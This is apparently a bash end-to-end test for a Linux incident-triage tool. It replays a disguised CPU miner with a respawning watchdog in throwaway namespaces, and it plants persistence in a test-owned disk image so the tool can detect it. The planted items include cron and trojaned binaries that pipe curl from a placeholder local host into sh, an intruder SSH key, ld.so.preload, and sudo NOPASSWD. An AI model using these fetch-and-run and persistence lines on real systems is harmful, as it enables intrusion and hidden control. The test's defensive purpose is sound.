#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# buildward triage end to end:
#   1. the miner incident, replayed in throwaway namespaces (mount, pid, net): a
#      "postgres" parent, a watchdog that respawns (the test kills the miner
#      during the capture) a CPU-burning "mysql" running
#      from a deleted /tmp file, PostgreSQL's port on 0.0.0.0 of the test's own
#      network namespace, a trust pg_hba.conf bind-mounted over /etc/postgresql;
#   2. a clean namespace (with a developer's tool running from a home): nothing
#      at high or above;
#   3. a disk image tree with planted persistence, read with --root;
#   4. the bundle: sha256sum -c, tampering detected, openssl verifies the signature;
#   5. triage diff shows a planted change; the exit codes of bad input.
# Nothing here touches the host: every plant lives in a tmpfs, a bind mount of
# a private mount namespace, or a directory the test owns.
. "$(dirname "$0")/lib.sh"
require_root
for tool in unshare python3 openssl sha256sum ssh-keygen; do
        command -v "$tool" >/dev/null || { echo "1..0 # SKIP '$tool' is not installed (scripts/bootstrap)"; exit 0; }
done

# /tmp is replaced by a tmpfs inside the scenario: work under /var/tmp.
W=$(mktemp -d /var/tmp/bw-triage.XXXXXX)
trap '[ -n "${BW_KEEP:-}" ] || rm -rf "$W" "$TEST_TMP"' EXIT
chmod 0755 "$W"
# The scenarios mount tmpfs over /tmp and /home: a checkout there would vanish
# from under them. The binary runs from $W instead (it needs only libc and libm),
# and so does the script: tools that look up their directory (pyenv's python3
# shim reads $PWD) fail when it is gone.
cp "$BUILDWARD" "$W/buildward" && BUILDWARD=$W/buildward
cd "$W" || exit 1
"$BUILDWARD" keygen -o "$W/key" >/dev/null || { not_ok "keygen for the bundle signature"; done_testing; exit 1; }

# ---- 1. the miner incident --------------------------------------------------
mkdir -p "$W/pg/15/main"
printf '%s\n' '# TYPE DATABASE USER ADDRESS METHOD' 'local all postgres peer' \
        'host all all 0.0.0.0/0 trust' >"$W/pg/15/main/pg_hba.conf"
printf '%s\n' "listen_addresses = '*'" 'port = 5432' >"$W/pg/15/main/postgresql.conf"

cat >"$W/scenario.sh" <<'EOF'
# Runs as pid 1 of a new pid namespace, in its own mount and network namespaces.
set -eu
W=$1; shift
mount --make-rprivate /
mount -t tmpfs -o size=64m tmpfs /tmp
mount --bind "$W/pg" /etc/postgresql
ip link set lo up 2>/dev/null || python3 -c 'pass'
# The "postgres" parent: a listener on every address and a watchdog child
# that copies a binary to /tmp/mysql, starts it as "mysql", deletes it, and
# starts it again whenever it dies.
cat >"/tmp/postgres.sh" <<'SH'
python3 -c '
import socket, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 5432)); s.listen(8)
time.sleep(600)' &
(exec -a watchdog bash -c '
for i in $(seq 1 600); do
        cp /bin/bash /tmp/mysql
        (exec -a mysql /tmp/mysql -c "while :; do :; done") &
        sleep 0.3
        rm -f /tmp/mysql
        wait $! || true
done') &
wait
SH
(exec -a postgres bash /tmp/postgres.sh) &
# Wait for a running, deleted /tmp/mysql and the listener (at most 10 s).
for i in $(seq 1 100); do
        found=0
        for p in /proc/[0-9]*; do
                [ "$(readlink "$p/exe" 2>/dev/null)" = "/tmp/mysql (deleted)" ] && found=1
        done
        grep -q ':1538 00000000:0000 0A' /proc/net/tcp 2>/dev/null && [ $found = 1 ] && break
        sleep 0.1
done
# Half a second into the capture, kill the miner (by its pid, found by its
# deleted exe): the watchdog must start a new one while triage samples CPU.
(sleep 0.5
 for p in /proc/[0-9]*; do
        [ "$(readlink "$p/exe" 2>/dev/null)" = "/tmp/mysql (deleted)" ] && kill "${p#/proc/}"
 done) &
rc=0
"$@" || rc=$?
echo "$rc" >"$W/rc"
EOF

sha_bash=$(sha256sum /bin/bash | cut -d' ' -f1)
timeout 90 unshare --mount --pid --net --fork --mount-proc bash "$W/scenario.sh" "$W" \
        "$BUILDWARD" triage --out "$W/miner" --sample 2 --skip packages --sign-key "$W/key" \
        >"$W/miner.out" 2>"$W/miner.err"
expect_eq "triage exits 1 when it finds something at high or above" 1 "$(cat "$W/rc" 2>/dev/null)"
F=$W/miner/findings.json
fj() { json "$F" "$1" 2>/dev/null || echo "<unreadable findings.json>"; }
has_rule() { # has_rule RULE PYTHON-CONDITION-ON-f
        fj "any(f['rule'] == '$1' and ($2) for f in d['findings'])"
}
expect_eq "the deleted /tmp/mysql is flagged" true \
        "$(has_rule triage.deleted-exe "f['process']['exe'] == '/tmp/mysql' and f['evidence']['exe_deleted']")"
expect_eq "it runs from a writable path" true \
        "$(has_rule triage.exe-writable-path "f['process']['exe'] == '/tmp/mysql'")"
expect_eq "the name 'mysql' on a /tmp binary is masquerading" true \
        "$(has_rule triage.masquerade "f['evidence']['name'] == 'mysql'")"
expect_eq "the 'postgres' parent (bash under a daemon's name) is masquerading" true \
        "$(has_rule triage.masquerade "f['evidence']['name'] == 'postgres'")"
expect_eq "the watchdog that keeps it alive is flagged as watchdog-respawn" true \
        "$(has_rule triage.watchdog "f['category'] == 'watchdog-respawn' and f['process']['argv'][0] == 'watchdog'")"
expect_eq "the watchdog was seen starting a new miner after the old one was killed" true \
        "$(has_rule triage.watchdog "f['process']['argv'][0] == 'watchdog' and len(f['evidence']['new_children_during_sample']) >= 1")"
expect_eq "its sustained CPU is flagged as a miner" true \
        "$(has_rule triage.suspicious-cpu "f['category'] == 'crypto-miner' and f['evidence']['cpu_percent'] >= 40")"
expect_eq "port 5432 on 0.0.0.0 in the test's network namespace is an exposure" true \
        "$(has_rule triage.exposed-service "f['evidence']['local'] == '0.0.0.0' and f['evidence']['local_port'] == 5432 and f['evidence']['owners'][0]['comm'].startswith('python')")"
expect_eq "the trust pg_hba.conf on a server listening everywhere is critical" true \
        "$(has_rule triage.db-trust-auth "f['severity'] == 'critical' and f['evidence']['file'] == '/etc/postgresql/15/main/pg_hba.conf'")"
rec=$(fj "[f['evidence'].get('recovered') for f in d['findings'] if f['rule'] == 'triage.deleted-exe'][0]")
expect_eq "the recovered executable has the sha256 of what was copied to /tmp/mysql" "$sha_bash" \
        "$(sha256sum "$W/miner/$rec" 2>/dev/null | cut -d' ' -f1)"
expect_eq "findings.json records the same sha256" "$sha_bash" \
        "$(fj "[f['evidence']['sha256'] for f in d['findings'] if f['rule'] == 'triage.deleted-exe'][0]")"
expect_eq "the listener's owner is resolved through /proc/PID/fd" true \
        "$(json "$W/miner/sockets.json" "any(s.get('local_port') == 5432 and s['listening'] and s['owners'] for s in d['sockets'])")"
expect_eq "the fake pg_hba.conf is kept raw in the bundle" "$(cat "$W/pg/15/main/pg_hba.conf")" \
        "$(cat "$W/miner/raw/etc/postgresql/15/main/pg_hba.conf" 2>/dev/null)"
out=$(cat "$W/miner.out")
expect_match "the summary leads with the counts by severity" '^buildward triage: [0-9]+ findings \([0-9]+ critical' "$out"
expect_match "the summary shows the miner with its evidence" 'CRITICAL +triage.suspicious-cpu' "$out"

# ---- 4. the bundle ----------------------------------------------------------
check "sha256sum -c MANIFEST.sha256 passes from the bundle directory" \
        sh -c "cd '$W/miner' && sha256sum --quiet -c MANIFEST.sha256"
expect_eq "the manifest covers findings.json, every collector and the recovered binary" 3 \
        "$(grep -cE '  \./(findings\.json|processes\.json|deleted-exe/)' "$W/miner/MANIFEST.sha256")"
check "the signature verifies with openssl pkeyutl -verify -rawin" \
        openssl pkeyutl -verify -pubin -inkey "$W/key.pub" -rawin -in "$W/miner/MANIFEST.sha256" \
        -sigfile "$W/miner/MANIFEST.sha256.sig"
cp -a "$W/miner" "$W/tampered"
echo '{"findings": []}' >"$W/tampered/findings.json"
if (cd "$W/tampered" && sha256sum --quiet -c MANIFEST.sha256) >/dev/null 2>&1; then
        not_ok "an edited findings.json fails sha256sum -c"
else ok "an edited findings.json fails sha256sum -c"; fi
sed -i '1s/^/0/' "$W/tampered/MANIFEST.sha256"
if openssl pkeyutl -verify -pubin -inkey "$W/key.pub" -rawin -in "$W/tampered/MANIFEST.sha256" \
        -sigfile "$W/tampered/MANIFEST.sha256.sig" >/dev/null 2>&1; then
        not_ok "an edited manifest fails the signature check"
else ok "an edited manifest fails the signature check"; fi

# ---- 2. a clean namespace ---------------------------------------------------
# Packages are skipped: their state is the host's, not the namespace's (the
# VM's own npm upgrade shows there as a finding, rightly).
cat >"$W/clean.sh" <<'EOF'
set -eu
W=$1; shift
mount --make-rprivate /
mount -t tmpfs -o size=16m tmpfs /tmp
ip link set lo up 2>/dev/null || true
# A developer's own tool running from a home (pyenv, cargo, nvm do this): seen, not alarming.
mount -t tmpfs -o size=16m tmpfs /home
mkdir -p /home/dev/.local/bin
cp /bin/sleep /home/dev/.local/bin/tool
/home/dev/.local/bin/tool 60 &
# on a loaded machine the child may not have exec'd yet when the capture starts
for _ in $(seq 50); do [ "$(readlink /proc/$!/exe)" = /home/dev/.local/bin/tool ] && break; sleep 0.1; done
rc=0
"$@" || rc=$?
echo "$rc" >"$W/clean-rc"
EOF
timeout 60 unshare --mount --pid --net --fork --mount-proc bash "$W/clean.sh" "$W" \
        "$BUILDWARD" triage --out "$W/clean" --sample 0.3 --skip packages >"$W/clean.out" 2>&1
expect_eq "a clean namespace exits 0" 0 "$(cat "$W/clean-rc" 2>/dev/null)"
expect_eq "a clean namespace has no finding at high or above" "[]" \
        "$(json "$W/clean/findings.json" "[f['rule'] + ': ' + f['detail'] for f in d['findings'] if f['severity'] in ('high', 'critical')]" 2>&1)"
expect_eq "the clean capture still listed its processes" true \
        "$(json "$W/clean/processes.json" "len(d['processes']) >= 1")"
expect_eq "a tool running from a home is reported at medium, not higher" medium \
        "$(json "$W/clean/findings.json" "[f['severity'] for f in d['findings'] if f['rule'] == 'triage.exe-writable-path' and f['process']['exe'] == '/home/dev/.local/bin/tool'][0]" 2>&1)"

# ---- 2b. a listener in another network namespace (a container's database) ---
# triage runs in the host's network namespace; Redis-like port 6379 listens on
# 0.0.0.0 inside a child namespace of its own: both namespaces are read.
cat >"$W/netns.sh" <<'EOF'
set -eu
W=$1; shift
mount --make-rprivate /
mount -t tmpfs -o size=16m tmpfs /tmp
# two processes of one deleted binary: one copy in the bundle
cp /bin/sleep /tmp/twin
/tmp/twin 60 &
/tmp/twin 60 &
sleep 0.2
rm /tmp/twin
unshare --net python3 -c '
import socket, time
s = socket.socket(); s.bind(("0.0.0.0", 6379)); s.listen(1); time.sleep(60)' &
for i in $(seq 1 50); do
        for p in /proc/[0-9]*; do
                [ "$(readlink "$p/ns/net" 2>/dev/null)" != "$(readlink /proc/self/ns/net)" ] &&
                        grep -q ':18EB 00000000:0000 0A' "$p/net/tcp" 2>/dev/null && break 2
        done
        sleep 0.1
done
"$@" >/dev/null 2>&1 || true
readlink /proc/self/ns/net >"$W/netns-own"
EOF
timeout 60 unshare --mount --pid --fork --mount-proc bash "$W/netns.sh" "$W" \
        "$BUILDWARD" triage --out "$W/netns" --sample 0 --skip packages,hidden >/dev/null 2>&1
own=$(sed 's/[^0-9]//g' "$W/netns-own" 2>/dev/null)
expect_eq "a listener in another network namespace is found and flagged" true \
        "$(json "$W/netns/findings.json" "any(f['rule'] == 'triage.exposed-service' and f['evidence']['local_port'] == 6379 and str(f['evidence']['netns']) != '$own' and f['evidence']['owners'][0]['comm'].startswith('python') for f in d['findings'])" 2>&1)"
expect_eq "sockets.json lists both network namespaces" true \
        "$(json "$W/netns/sockets.json" "len(d['namespaces']) >= 2" 2>&1)"
expect_eq "two processes of one deleted binary share one recovered copy" "2 1 1" \
        "$(json "$W/netns/findings.json" "'%d %d' % (len([f for f in d['findings'] if f['rule'] == 'triage.deleted-exe']), len(set(f['evidence']['recovered'] for f in d['findings'] if f['rule'] == 'triage.deleted-exe')))" 2>&1) $(ls "$W/netns/deleted-exe" 2>/dev/null | wc -l)"

# ---- 3. a disk image with planted persistence -------------------------------
I=$W/img
mkdir -p "$I"/etc/{cron.d,sudoers.d,systemd/system,ssh} "$I"/var/spool/cron/crontabs "$I"/root/.ssh \
        "$I"/home/alice/.ssh "$I"/var/lib/jenkins/jobs/app/builds/7 "$I"/tmp
printf '%s\n' 'root:x:0:0:root:/root:/bin/bash' 'alice:x:1000:1000::/home/alice:/bin/bash' >"$I/etc/passwd"
printf '%s\n' 'root ALL=(ALL:ALL) ALL' >"$I/etc/sudoers"
printf '%s\n' 'SHELL=/bin/sh' '17 * * * * root cd / && run-parts --report /etc/cron.hourly' >"$I/etc/crontab"
printf 'PermitRootLogin yes\nX\377\376Bad\300\257Key yes\n' >"$I/etc/ssh/sshd_config"
echo build-07.example >"$I/etc/hostname"
ssh-keygen -q -t ed25519 -N '' -C managed@ops -f "$W/managed"
ssh-keygen -q -t ed25519 -N '' -C intruder@evil -f "$W/intruder"
cp "$W/managed.pub" "$I/root/.ssh/authorized_keys"
# a package: two files, then dpkg's checksums of them (written after them, as dpkg does)
mkdir -p "$I/usr/bin" "$I/usr/share/doc/tool" "$I/var/lib/dpkg/info"
printf '#!/bin/sh\necho tool\n' >"$I/usr/bin/tool"
echo 'a tool' >"$I/usr/share/doc/tool/README"
(cd "$I" && md5sum usr/bin/tool usr/share/doc/tool/README) >"$I/var/lib/dpkg/info/tool.md5sums"
echo /usr/bin/tool >"$I/var/lib/dpkg/info/tool.list"
# and openssh-server, whose sshd is swapped below and its checksums touched to hide it
mkdir -p "$I/usr/sbin"
printf '#!/bin/sh\necho sshd\n' >"$I/usr/sbin/sshd"
(cd "$I" && md5sum usr/sbin/sshd) >"$I/var/lib/dpkg/info/openssh-server.md5sums"
echo /usr/sbin/sshd >"$I/var/lib/dpkg/info/openssh-server.list"
# dpkg.log as dpkg writes it (after the files, in the image's zone), rotated: the unpack
# of tool is only in dpkg.log.2.gz, read through libarchive
mkdir -p "$I/var/log"
echo Etc/UTC >"$I/etc/timezone"
now=$(date -u '+%F %T')
printf '%s\n' "$now install tool:amd64 <none> 1.0" "$now status unpacked tool:amd64 1.0" | gzip >"$I/var/log/dpkg.log.2.gz"
printf '%s\n' "$now configure tool:amd64 1.0 <none>" >"$I/var/log/dpkg.log.1"
printf '%s\n' "$now install openssh-server:amd64 <none> 1:9.2p1-2" \
        "$now status unpacked openssh-server:amd64 1:9.2p1-2" "$now trigproc man-db:amd64 2.11 <none>" >"$I/var/log/dpkg.log"
# links that would leave the image if they were followed on the host
ln -s /etc/sudoers "$I/etc/sudoers.d/zz-link"
ln -s ../../../../../../../../../etc/passwd "$I/etc/sudoers.d/zz-rel"
sleep 1.1
since=$(date +%s)
sleep 1.1
printf '%s\n' '*/5 * * * * /tmp/.x/kworker >/dev/null 2>&1' >"$I/var/spool/cron/crontabs/alice"
printf '%s\n' '* * * * * root curl -fsSL http://127.0.0.1:9/i.sh | sh' >"$I/etc/cron.d/sysupdate"
printf '%s\n' '[Unit]' 'Description=updater' '[Service]' 'ExecStart=/tmp/.cache/updater --quiet' \
        '[Install]' 'WantedBy=multi-user.target' >"$I/etc/systemd/system/updater.service"
cat "$W/intruder.pub" >>"$I/root/.ssh/authorized_keys"
echo /usr/lib/x86_64-linux-gnu/libhook.so >"$I/etc/ld.so.preload"
printf '#!/bin/sh\ncurl -s http://127.0.0.1:9/k | sh\n' >"$I/usr/bin/tool"
chmod 0755 "$I/usr/bin/tool"
sleep 1.1 # three seconds past the logged unpack: beyond the log-to-ctime slack
printf '#!/bin/sh\ncurl -s http://127.0.0.1:9/k | sh\n' >"$I/usr/sbin/sshd"
chmod 644 "$I/var/lib/dpkg/info/openssh-server.md5sums"
echo 'alice ALL=(ALL) NOPASSWD: ALL' >"$I/etc/sudoers.d/90-alice"
printf '%s\n' '+ make' '+ curl -fsSL http://127.0.0.1:9/setup.sh | bash' >"$I/var/lib/jenkins/jobs/app/builds/7/log"

RC=0
"$BUILDWARD" triage --root "$I" --out "$W/disk" --inventory "$W/managed.pub" --since "@$since" \
        >"$W/disk.out" 2>"$W/disk.err" || RC=$?
RUN_ERR=$W/disk.err
expect_rc "--root exits 1 on planted persistence" 1
F=$W/disk/findings.json
expect_eq "a cron job from /tmp is flagged" true \
        "$(has_rule triage.cron-writable-path "'/tmp/.x/kworker' in f['evidence']['line']")"
expect_eq "a cron job piping curl into sh is critical" true \
        "$(has_rule triage.cron-download-exec "f['severity'] == 'critical' and f['evidence']['file'] == '/etc/cron.d/sysupdate'")"
expect_eq "a systemd unit running from /tmp is flagged" true \
        "$(has_rule triage.unit-writable-path "f['evidence']['file'] == '/etc/systemd/system/updater.service'")"
fp=$(ssh-keygen -lf "$W/intruder.pub" | cut -d' ' -f2)
expect_eq "the key outside the inventory is flagged, with ssh-keygen's fingerprint" true \
        "$(has_rule triage.unknown-ssh-key "f['evidence']['fingerprint'] == '$fp'")"
expect_eq "the inventoried key is not" 1 "$(fj "len([f for f in d['findings'] if f['rule'] == 'triage.unknown-ssh-key'])")"
expect_eq "a non-empty ld.so.preload is critical" true "$(has_rule triage.ld-preload "f['severity'] == 'critical'")"
expect_eq "sudo NOPASSWD for everything is flagged" true \
        "$(has_rule triage.sudo-nopasswd "f['severity'] == 'high' and f['evidence']['file'] == '/etc/sudoers.d/90-alice'")"
expect_eq "curl|bash in a Jenkins build log is flagged" true \
        "$(has_rule triage.ci-download-exec "f['evidence']['line_number'] == 2")"
expect_eq "a packaged executable changed after install is an integrity finding" true \
        "$(has_rule triage.package-modified "f['category'] == 'integrity' and f['severity'] == 'high' and f['evidence']['files'] == ['/usr/bin/tool']")"
expect_eq "a touched .md5sums after a swapped binary is flagged against dpkg.log" true \
        "$(has_rule triage.dpkg-info-tampered "f['evidence']['file'] == '/var/lib/dpkg/info/openssh-server.md5sums' and f['category'] == 'anti-forensics'")"
expect_eq "and the swapped binary it hid is reported" true \
        "$(has_rule triage.package-modified "f['evidence']['files'] == ['/usr/sbin/sshd']")"
expect_eq "the checksum files dpkg.log accounts for are not flagged (tool's unpack only in dpkg.log.2.gz)" \
        "1 Etc/UTC 3" \
        "$(json "$W/disk/packages.json" "'%d %s %d' % (d['info_files_tampered'], d['dpkg_log']['timezone'], len(d['dpkg_log']['read']))")"
expect_eq "the untouched packaged file was not hashed (its ctime predates the checksums)" "2 1" \
        "$(json "$W/disk/packages.json" "'%d %d' % (d['files_hashed'], d['files_unchanged_since_install'])")"
expect_eq "PermitRootLogin yes is flagged" true "$(has_rule triage.sshd-root-login "f['category'] == 'exposure'")"
expect_eq "a symlink in the image resolves inside the image, not on the host" "root ALL=(ALL:ALL) ALL" \
        "$(cat "$W/disk/raw/etc/sudoers.d/zz-link" 2>/dev/null)"
expect_eq "a relative link climbing out with .. stays in the image too" "$(cat "$I/etc/passwd")" \
        "$(cat "$W/disk/raw/etc/sudoers.d/zz-rel" 2>/dev/null)"
expect_eq "--root says the process collectors were skipped" skipped \
        "$(json "$W/disk/capture.json" "d['collectors']['processes']['status']")"
expect_match "and the summary says so" 'processes: skipped \(needs the live host' "$(cat "$W/disk.out")"
newer=$(json "$W/disk/newer.json" "sorted(f['path'] for f in d['files'] if f['type'] == 'file')")
expect_match "files newer than --since include the planted ones" 'updater.service.*ld.so.preload|ld.so.preload.*updater.service' "$newer"
expect_eq "and not the older ones" false "$(json "$W/disk/newer.json" "any(f['path'] == '/etc/passwd' for f in d['files'])")"
expect_eq "an sshd keyword that is not UTF-8 leaves every JSON file of the bundle loadable" ok \
        "$(cd "$W/disk" && python3 -c 'import glob, json, sys
for p in glob.glob("*.json"):
    json.load(open(p, encoding="utf-8"))
print("ok" if "x\\xff\\xfebad\\xc0\\xafkey" in json.load(open("sshd.json"))["effective"] else "key missing")' 2>&1)"
expect_eq "capture.json names the image's host, not this one" build-07.example \
        "$(json "$W/disk/capture.json" "d['hostname']")"
touch -d @1000000000 "$I/etc/passwd"
"$BUILDWARD" triage --root "$I" --out "$W/since-img" --since /etc/passwd --skip packages >/dev/null 2>&1 || true
expect_eq "--since FILE with --root takes the image's file time" 1000000000 \
        "$(json "$W/since-img/capture.json" "d['since']" 2>&1)"
mv "$I/etc/passwd" "$W/passwd.saved"
"$BUILDWARD" triage --root "$I" --out "$W/nopasswd" --inventory "$W/managed.pub" --skip packages,newer \
        >/dev/null 2>&1 || true
mv "$W/passwd.saved" "$I/etc/passwd"
expect_eq "without /etc/passwd the homes under /root and /home are still read" true \
        "$(json "$W/nopasswd/findings.json" "any(f['rule'] == 'triage.unknown-ssh-key' and f['evidence']['file'] == '/root/.ssh/authorized_keys' for f in d['findings'])" 2>&1)"

# ---- 5. diff, archive, exit codes -------------------------------------------
cp "$W/intruder.pub" "$I/home/alice/.ssh/authorized_keys"
printf '%s\n' '@reboot /dev/shm/.s' >>"$I/var/spool/cron/crontabs/alice"
"$BUILDWARD" triage --root "$I" --out "$W/disk2" --inventory "$W/managed.pub" --archive >/dev/null 2>"$W/disk2.err"
RC=0
"$BUILDWARD" triage diff "$W/disk" "$W/disk2" >"$W/diff.out" 2>&1 || RC=$?
RUN_ERR=$W/diff.out
expect_rc "triage diff exits 1 when something changed" 1
diff_out=$(cat "$W/diff.out")
expect_match "diff shows the new cron entry" '^\+ cron .*@reboot /dev/shm/\.s' "$diff_out"
expect_eq "diff shows the new key for alice" 1 \
        "$(awk -v fp="$fp" '$1 == "+" && $2 == "key" && $3 == "alice" && $4 == fp' "$W/diff.out" | wc -l)"
RC=0
"$BUILDWARD" triage diff "$W/disk2" "$W/disk2" >"$W/diff0.out" 2>&1 || RC=$?
expect_rc "triage diff of a bundle with itself exits 0" 0
"$BUILDWARD" triage --root "$I" --out "$W/disk3" --baseline "$W/disk2" --hash-all >"$W/base.out" 2>&1
expect_eq "--hash-all hashes every packaged file" 3 "$(json "$W/disk3/packages.json" "d['files_hashed']")"
expect_match "--baseline prints the changes after the capture" "changes since '.*disk2':" "$(cat "$W/base.out")"
RC=0
"$BUILDWARD" triage diff "$W/disk/findings.json" "$W/disk2" >"$W/diff-file.out" 2>&1 || RC=$?
RUN_ERR=$W/diff-file.out
expect_rc "a bundle's findings.json stands for its bundle" 1
expect_eq "and gives the same changes as the directory" "$(head -n -1 "$W/diff.out")" "$(head -n -1 "$W/diff-file.out")"
RC=0
"$BUILDWARD" triage --root "$I" --out "$W/never" --baseline "$W/disk2.tar.zst" >/dev/null 2>"$W/err" || RC=$?
RUN_ERR=$W/err
expect_rc "a packed --baseline is refused as usage (2)" 2
expect_match "naming how to unpack it" "packed bundle: unpack it first \(\`tar --zstd -xf" "$(cat "$W/err")"
check "before any capture (no bundle written)" test ! -e "$W/never"
check "--archive packs a tar.zst holding the manifest" \
        sh -c "tar --zstd -tf '$W/disk2.tar.zst' | grep -qx 'disk2/MANIFEST.sha256'"
RC=0
"$BUILDWARD" triage --out "$W/disk2" --root "$I" >/dev/null 2>"$W/err" || RC=$?
RUN_ERR=$W/err
expect_rc "a non-empty --out is refused with 125" 125
expect_match "with a one-line reason" "cannot use '.*disk2' as the bundle directory" "$(cat "$W/err")"
RC=0
"$BUILDWARD" triage --bogus >/dev/null 2>"$W/err" || RC=$?
expect_rc "an unknown option exits 2" 2
RC=0
"$BUILDWARD" triage --root "$W/missing" --out "$W/x" >/dev/null 2>"$W/err" || RC=$?
expect_rc "a missing --root exits 2" 2

done_testing
